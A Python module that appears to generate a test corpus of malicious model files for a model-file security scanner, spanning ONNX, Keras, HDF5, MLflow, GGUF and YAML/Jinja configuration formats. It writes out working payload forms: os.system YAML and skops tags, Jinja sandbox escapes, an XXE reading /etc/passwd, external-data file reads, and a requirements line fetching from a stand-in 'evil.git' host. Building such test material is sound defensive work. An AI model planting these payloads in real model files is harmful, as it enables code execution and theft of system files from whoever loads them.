"""Attacks in formats other than pickle: files that reach outside, name code, break readers, or execute as text."""

from __future__ import annotations

import json
import struct
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .case import Case, executing, zipped
from .containers import npy_of

ENDING = frozenset(("a loop that never ends", "a virtual data set"))
"""Attacks that never answer, or use more memory than there is."""


def cases(canary: str) -> list[Case]:
    """Return the attacks; ``canary`` is the file that the pickles among them try to write."""
    found: list[Case] = []
    for family, made in (
        ("skops", _skops(canary)),
        ("onnx", _onnx()),
        ("mlflow", _mlflow(canary)),
        ("keras", _keras()),
        ("hdf5", _hdf5()),
        ("tensors", _tensors()),
        ("boosters", _boosters()),
        ("configuration", _configuration()),
    ):
        for name, files in made.items():
            model = next(iter(files))
            folder = model.rpartition("/")[0] if family == "mlflow" else model
            found.append(Case(name=name, family=family, files=files, model=folder, ends_process=name in ENDING))
    return found


def _skops(canary: str) -> dict[str, dict[str, bytes]]:
    def schema(**node: Any) -> bytes:
        return json.dumps(
            {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": node}
        ).encode()

    def named(module: str, name: str, loader: str = "ObjectNode", **more: Any) -> dict[str, Any]:
        return {"__class__": name, "__module__": module, "__loader__": loader, **more}

    call = named("builtins", "function", "FunctionNode", content={"module_path": "os", "function": "system"})
    many = {"a": named("sklearn.linear_model._logistic", "LogisticRegression", content=named("subprocess", "Popen"))}
    return {
        "a function of os": {"model/m.skops": zipped({"schema.json": schema(a=call)})},
        "an operator that calls": {
            "model/m.skops": zipped({"schema.json": schema(a=named("operator", "methodcaller"))})
        },
        "a partial": {"model/m.skops": zipped({"schema.json": schema(a=named("functools", "partial", "PartialNode"))})},
        "a class of a company": {"model/m.skops": zipped({"schema.json": schema(a=named("my_company", "Model"))})},
        "a class inside an honest one": {"model/m.skops": zipped({"schema.json": schema(**many)})},
        "a method of a class": {
            "model/m.skops": zipped({"schema.json": schema(a=named("builtins", "getattr", "MethodNode"))})
        },
        "a schema that is nested": {"model/m.skops": zipped({"schema.json": b'{"__class__":' * 50_000})},
        "an array of objects": {
            "model/m.skops": zipped({"schema.json": schema(), "1.npy": npy_of(executing(canary))}),
        },
        "no schema": {"model/m.skops": zipped({"other.json": b"{}", "schema.json": b"[]"})},
    }


def _onnx() -> dict[str, dict[str, bytes]]:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    def model(nodes: list[Any], weights: tuple[Any, ...] = (), domains: tuple[str, ...] = ("",)) -> bytes:
        shapes = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1]) for name in ("x", "y")]
        graph = helper.make_graph(nodes, "g", shapes[:1], shapes[1:], list(weights))
        opsets = [helper.make_opsetid(name, 1 if name else 20) for name in domains]
        return bytes(helper.make_model(graph, opset_imports=opsets, ir_version=10).SerializeToString())

    def outside(location: str) -> bytes:
        tensor = numpy_helper.from_array(np.zeros(4, dtype=np.float32), "w")
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        tensor.external_data.add(key="location", value=location)
        return model([helper.make_node("Identity", ["x"], ["y"])], (tensor,))

    def sparse_outside() -> bytes:
        values = numpy_helper.from_array(np.zeros(1, dtype=np.float32), "v")
        values.ClearField("raw_data")
        values.data_location = TensorProto.EXTERNAL
        values.external_data.add(key="location", value="/etc/passwd")
        sparse = helper.make_sparse_tensor(values, numpy_helper.from_array(np.zeros(1, dtype=np.int64), "i"), [4])
        return model([helper.make_node("Constant", [], ["y"], sparse_value=sparse)])

    def loop(changes: bool, rounds: int | None = None) -> bytes:
        flag = [
            helper.make_tensor_value_info("c", TensorProto.BOOL, []),
            helper.make_tensor_value_info("d", TensorProto.BOOL, []),
        ]
        count = helper.make_tensor_value_info("i", TensorProto.INT64, [])
        value = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1]) for name in ("v", "w")]
        step = helper.make_node("Not", ["c"], ["d"]) if changes else helper.make_node("Identity", ["c"], ["d"])
        body = helper.make_graph(
            [step, helper.make_node("Identity", ["v"], ["w"])], "b", [count, flag[0], value[0]], [flag[1], value[1]]
        )
        weights = (numpy_helper.from_array(np.array(rounds), "m"),) if rounds else ()
        return model([helper.make_node("Loop", ["m" if rounds else "", "", "x"], ["y"], body=body)], weights)

    honest = model([helper.make_node("Identity", ["x"], ["y"])])
    own = model([helper.make_node("Anything", ["x"], ["y"], domain="com.example")], domains=("", "com.example"))
    python = model([helper.make_node("PythonOp", ["x"], ["y"], domain="com.microsoft")], domains=("", "com.microsoft"))
    deep = b"\x0a" + b"\x7f" * 3
    return {
        "weights in the passwords": {"model/m.onnx": outside("/etc/passwd")},
        "weights above the folder": {"model/m.onnx": outside("../../secret.bin")},
        "weights at an address": {"model/m.onnx": outside("http://127.0.0.1:9/w.bin")},
        "weights that were not sent": {"model/m.onnx": outside("weights.bin")},
        "an operator from elsewhere": {"model/m.onnx": own},
        "an operator that runs Python": {"model/m.onnx": python},
        "a context for a device": {
            "model/m.onnx": model(
                [helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", ep_cache_context="/tmp/x.so")],
                domains=("", "com.microsoft"),
            )
        },
        "sparse weights outside": {"model/m.onnx": sparse_outside()},
        "a loop that never ends": {"model/m.onnx": loop(changes=False)},
        "a loop of a thousand million rounds": {"model/m.onnx": loop(changes=True, rounds=10**12)},
        "cut off": {"model/m.onnx": honest[:-5]},
        "no graph": {"model/m.onnx": b"\x08\x0a\x12\x01x"},
        "a field longer than the file": {"model/m.onnx": b"\x08\x0a\x3a" + b"\xff" * 8 + b"\x01" + deep},
        "a graph of TensorFlow that reads files": {
            "model/saved_model.pb": b"\x0a\x20\x0a\x04read\x12\x08ReadFile\x1a\x01x" + bytes(40)
        },
    }


def _mlflow(canary: str) -> dict[str, dict[str, bytes]]:
    def folder(text: str, **files: bytes) -> dict[str, bytes]:
        return {"model/MLmodel": text.encode(), **{f"model/{name}": content for name, content in files.items()}}

    sklearn = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
    return {
        "a loader of os": folder("flavors:\n  python_function:\n    loader_module: os\n"),
        "a loader from elsewhere": folder("flavors:\n  python_function:\n    loader_module: not_submitted.loader\n"),
        "a loader on one line": folder("flavors: {python_function: {loader_module: subprocess}}\n"),
        "a loader in escapes": folder('flavors:\n  python_function:\n    "loader\\u005fmodule": os\n'),
        "a loader in braces": folder('flavors:\n  python_function: {"loader\\x5fmodule": "os"}\n'),
        "a loader behind an anchor": folder("flavors:\n  python_function:\n    loader_module: &a os\n"),
        "code above the folder": folder(sklearn + "    code: ../../elsewhere\n", **{"model.pkl": b"\x80\x02}."}),
        "code that was not sent": folder(sklearn + "    code: code\n", **{"model.pkl": b"\x80\x02}."}),
        "a model above the folder": folder(sklearn.replace("model.pkl", "/etc/passwd")),
        "a pickle that calls": folder(sklearn, **{"model.pkl": executing(canary)}),
        "a pickled Python model": folder(
            sklearn.replace("mlflow.sklearn", "mlflow.pyfunc.model").replace("model_path: m", "python_model: python_m"),
            **{"python_model.pkl": executing(canary)},
        ),
        "a package from an address": folder(
            sklearn, **{"model.pkl": b"\x80\x02}.", "requirements.txt": b"numpy\ngit+https://127.0.0.1/evil.git\n"}
        ),
        "an index of packages": folder(
            sklearn,
            **{"model.pkl": b"\x80\x02}.", "requirements.txt": b"--extra-index-url http://127.0.0.1/simple\nx\n"},
        ),
        "an environment from an address": folder(
            sklearn,
            **{"model.pkl": b"\x80\x02}.", "conda.yaml": b"dependencies:\n- pip:\n  - x @ https://127.0.0.1/x.whl\n"},
        ),
    }


def _keras() -> dict[str, dict[str, bytes]]:
    def keras(config: dict[str, Any]) -> dict[str, bytes]:
        return {"model/m.keras": zipped({"metadata.json": b"{}", "config.json": json.dumps(config).encode()})}

    def layer(module: str, name: str, **config: Any) -> dict[str, Any]:
        return {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"layers": [{"module": module, "class_name": name, "config": config, "registered_name": None}]},
        }

    code = {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None, "closure": None}}
    return {
        "a Lambda layer": keras(layer("keras.layers", "Lambda", function=code)),
        "a function of os": keras(layer("os", "system")),
        "a fetcher of files": keras(layer("keras.utils", "get_file", origin="http://127.0.0.1:9/x")),
        "a class of a company": keras(layer("my_company.layers", "Layer")),
        "a vocabulary from a file": keras(layer("keras.layers", "StringLookup", vocabulary="/etc/passwd")),
        "a wrapped torch module": keras(layer("keras.layers", "TorchModuleWrapper", torch_module="x")),
        "a Lambda in an archive without metadata": {
            "model/m.keras": zipped(
                {"config.json": json.dumps(layer("keras.layers", "Lambda", function=code)).encode()}
            )
        },
        "a Lambda in HDF5, written tightly": _in_hdf5(
            lambda file: file.attrs.__setitem__(
                "model_config", json.dumps({"name": "m", "class_name": "Lambda", "config": {}}, separators=(",", ":"))
            )
        ),
        "a Lambda in HDF5, its name last": _in_hdf5(
            lambda file: file.attrs.__setitem__(
                "model_config", json.dumps({"config": {"a": {}}, "class_name": "Lambda"})
            )
        ),
        "a Lambda in HDF5, in escapes": _in_hdf5(
            lambda file: file.attrs.__setitem__("model_config", '{"class\\u005fname": "L\\u0061mbda", "config": {}}')
        ),
        "a Lambda beside a SavedModel": {
            "model/keras_metadata.pb": b'\x0a\x30\x12\x2e{"class_name": "Lambda", "config": {}}' + bytes(20)
        },
        "a Lambda in HDF5": _in_hdf5(
            lambda file: file.attrs.__setitem__(
                "model_config",
                json.dumps(
                    {
                        "class_name": "Sequential",
                        "config": {
                            "layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None]}}]
                        },
                    }
                ),
            )
        ),
    }


def _in_hdf5(write: Callable[[Any], None], **how: Any) -> dict[str, bytes]:
    import h5py

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.h5"
        with h5py.File(path, "w", **how) as file:
            write(file)
        return {"model/m.h5": path.read_bytes()}


def _hdf5() -> dict[str, dict[str, bytes]]:
    import h5py

    def external(file: Any) -> None:
        file["weights"] = h5py.ExternalLink("/etc/passwd", "/data")

    def many(file: Any) -> None:
        for number in range(40):
            file[f"w{number}"] = h5py.ExternalLink("../secret.h5", f"/data{number}")

    def storage(file: Any) -> None:
        file.create_dataset("w", (4,), "u1", external=[("/etc/hostname", 0, 4)])

    def virtual(file: Any) -> None:
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource("/data/secret.h5", "w", (4,))
        file.create_virtual_dataset("w", layout)

    return {
        "a link to another file": _in_hdf5(external),
        "a link to another file, of a new form": _in_hdf5(external, libver="latest"),
        "forty links": _in_hdf5(many, libver="latest"),
        "numbers in another file": _in_hdf5(storage),
        "numbers in another file, of a new form": _in_hdf5(storage, libver="latest"),
        "a virtual data set": _in_hdf5(virtual, libver="latest"),
        "a link behind a user's block": _in_hdf5(external, userblock_size=512),
    }


def _tensors() -> dict[str, dict[str, bytes]]:
    def safe(header: Any, data: bytes = bytes(16)) -> dict[str, bytes]:
        encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
        return {"model/m.safetensors": struct.pack("<Q", len(encoded)) + encoded + data}

    def tensor(start: int, end: int, shape: int = 4) -> dict[str, Any]:
        return {"dtype": "F32", "shape": [shape], "data_offsets": [start, end]}

    def gguf(pairs: bytes, count: int = 1, tensors: int = 0) -> dict[str, bytes]:
        return {"model/m.gguf": b"GGUF" + struct.pack("<IQQ", 3, tensors, count) + pairs}

    def key(name: str, kind: int) -> bytes:
        return struct.pack("<Q", len(name)) + name.encode() + struct.pack("<I", kind)

    def template(content: str) -> bytes:
        return key("tokenizer.chat_template", 8) + struct.pack("<Q", len(content)) + content.encode()

    escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    return {
        "a header of a hundred megabytes": safe(b"{" + b" " * 100_000_100),
        "a header longer than the file": {"model/m.safetensors": struct.pack("<Q", 90_000_000) + b"{}"},
        "a header of 2^60 bytes": {"model/m.safetensors": struct.pack("<Q", 1 << 60) + b"{" + bytes(100)},
        "a header that is nested": safe(b'{"a":' * 100_000),
        "a tensor outside": safe({"a": tensor(0, 16), "b": tensor(16, 32)}),
        "tensors upon each other": safe({"a": tensor(0, 16), "b": tensor(0, 16)}),
        "a tensor of another size": safe({"a": tensor(0, 16, 400)}),
        "a name that is given twice": safe(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{}}'),
        "bytes of no tensor": safe({"a": tensor(0, 16)}, bytes(16) + executing("/x")),
        "a template that escapes": gguf(template(escape)),
        "a template that imports": gguf(template("{{ lipsum.__globals__['os'].popen('id') }}")),
        "a count of 2^60": gguf(b"", 1 << 60),
        "a text of 2^60 bytes": gguf(struct.pack("<Q", 1 << 60)),
        "an array of arrays": gguf(key("a", 9) + struct.pack("<IQ", 9, 1 << 20) * 20),
        "a tensor of GGUF outside": gguf(struct.pack("<Q", 1) + b"a" + struct.pack("<IQIQ", 1, 4, 0, 1 << 40), 0, 1),
    }


def _boosters() -> dict[str, dict[str, bytes]]:
    def xgboost(
        left: list[int],
        right: list[int],
        split: list[int] | None = None,
        **more: Any,
    ) -> dict[str, bytes]:
        tree = {
            "left_children": left,
            "right_children": right,
            "split_indices": split or [0] * len(left),
            "tree_param": {"num_nodes": str(len(left))},
            **more,
        }
        booster = {"name": "gbtree", "model": {"trees": [tree]}}
        learner = {"gradient_booster": booster, "learner_model_param": {"num_feature": "2"}}
        return {"model/m.json": json.dumps({"learner": learner, "version": [3, 0, 0]}).encode()}

    def lightgbm(left: str, right: str, feature: str = "0 1", more: str = "") -> dict[str, bytes]:
        tree = (
            f"num_leaves=3\nsplit_feature={feature}\nleft_child={left}\nright_child={right}\nleaf_value=1 2 3\n{more}"
        )
        return {"model/m.txt": f"tree\nversion=v4\nmax_feature_idx=1\n\nTree=0\n{tree}\nend of trees\n".encode()}

    return {
        "a child out of range": xgboost([1, 99, -1], [2, -1, -1]),
        "a child before the tree": xgboost([1, -9, -1], [2, -1, -1]),
        "a tree in a circle": xgboost([1, 0, -1], [2, 2, -1]),
        "a column out of range": xgboost([1, -1, -1], [2, -1, -1], [77, 0, 0]),
        "a category out of range": xgboost(
            [1, -1, -1],
            [2, -1, -1],
            categories=[1],
            categories_nodes=[0],
            categories_segments=[0],
            categories_sizes=[99],
        ),
        "fewer conditions than nodes": xgboost([1, -1, -1], [2, -1, -1], split_conditions=[0.5]),
        "a category of LightGBM out of range": lightgbm(
            "1 -1", "-2 -3", more="num_cat=1\ncat_boundaries=0 99\ncat_threshold=1\n"
        ),
        "a category of LightGBM that is not there": lightgbm(
            "1 -1", "-2 -3", more="num_cat=1\ncat_boundaries=0 1\ncat_threshold=1\ndecision_type=1 2\nthreshold=7 0.5\n"
        ),
        "no trees in UBJSON": {
            "model/m.ubj": b"{L\x00\x00\x00\x00\x00\x00\x00\x07learner[$U#L\x7f\xff\xff\xff\xff\xff\xff\xff"
        },
        "a leaf of LightGBM out of range": lightgbm("1 -99", "-2 -3"),
        "a child of LightGBM out of range": lightgbm("77 -1", "-2 -3"),
        "a circle in LightGBM": lightgbm("1 1", "-2 -3"),
        "a column of LightGBM out of range": lightgbm("1 -1", "-2 -3", "0 99"),
        "a core of CatBoost longer than its file": {"model/m.cbm": b"CBM1" + struct.pack("<I", 1 << 30) + bytes(100)},
        "a root of CatBoost outside": {"model/m.cbm": b"CBM1" + struct.pack("<II", 64, 1 << 20) + bytes(60)},
    }


def _configuration() -> dict[str, dict[str, bytes]]:
    escape = b"{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}"
    return {
        "a line of .pth": {"model/evil.pth": b"import os; os.system('true')\n"},
        "sitecustomize": {"model/sitecustomize.py": b"print('hello')\n"},
        "usercustomize": {"model/lib/usercustomize.py": b"print('hello')\n"},
        "a YAML tag that calls": {"model/config.yaml": b"a: 1\nb: !!python/object/apply:os.system ['true']\n"},
        "a YAML tag that names": {"model/config.yml": b"a: !!python/name:os.system\n"},
        "a YAML tag under a name of its own": {
            "model/config.yaml": b"%TAG !e! tag:yaml.org,2002:pyth\n---\na: !e!on/object/apply:os.system ['true']\n"
        },
        "a YAML tag in escapes": {"model/config.yaml": b"a: !!pyth%6fn/object/apply:os.system ['true']\n"},
        "a YAML tag in UTF-16": {
            "model/config.yaml": "\ufeffa: !!python/object/apply:os.system ['true']\n".encode("utf-16-le")
        },
        "a line of .pth behind a mark": {"model/evil.pth": b"\xef\xbb\xbfimport os\n"},
        "a line of .pth in a large file": {"model/evil.pth": b"import os\n" + b"# padding\n" * 2_100_000},
        "a template that adds a name up": {
            "model/chat_template.jinja": b"{{ messages['_' ~ '_class_' ~ '_'] }}{{ x['a' + 'b'] }}"
        },
        "a YAML tag in full": {"model/config.yaml": b"a: !<tag:yaml.org,2002:python/object/new:os.system> [x]\n"},
        "auto_map": {"model/config.json": b'{"auto_map": {"AutoModel": "someone/else--modeling.Model"}}'},
        "trust_remote_code": {"model/config.json": b'{"a": {"trust_remote_code": true}}'},
        "a target to call": {"model/config.json": b'{"_target_": "os.system", "command": "true"}'},
        "a target in YAML": {"model/config.yaml": b"model:\n  _target_: subprocess.Popen\n"},
        "a template that escapes": {"model/chat_template.jinja": escape},
        "a template in a configuration": {
            "model/tokenizer_config.json": json.dumps({"chat_template": escape.decode()}).encode()
        },
        "entities in XML": {
            "model/m.pmml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
        },
        "a library of Linux": {"model/helper.so": b"\x7fELF\x02\x01\x01" + bytes(100)},
        "a library of Windows": {"model/helper.dll": b"MZ\x90\x00" + bytes(100)},
        "compiled Python": {"model/helper.pyc": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3"},
        "JSON that is nested": {"model/config.json": b"[" * 200_000},
        "JSON that gives a key twice": {
            "model/config.json": b'{"trust_remote_code": true, "trust_remote_code": false}'
        },
    }
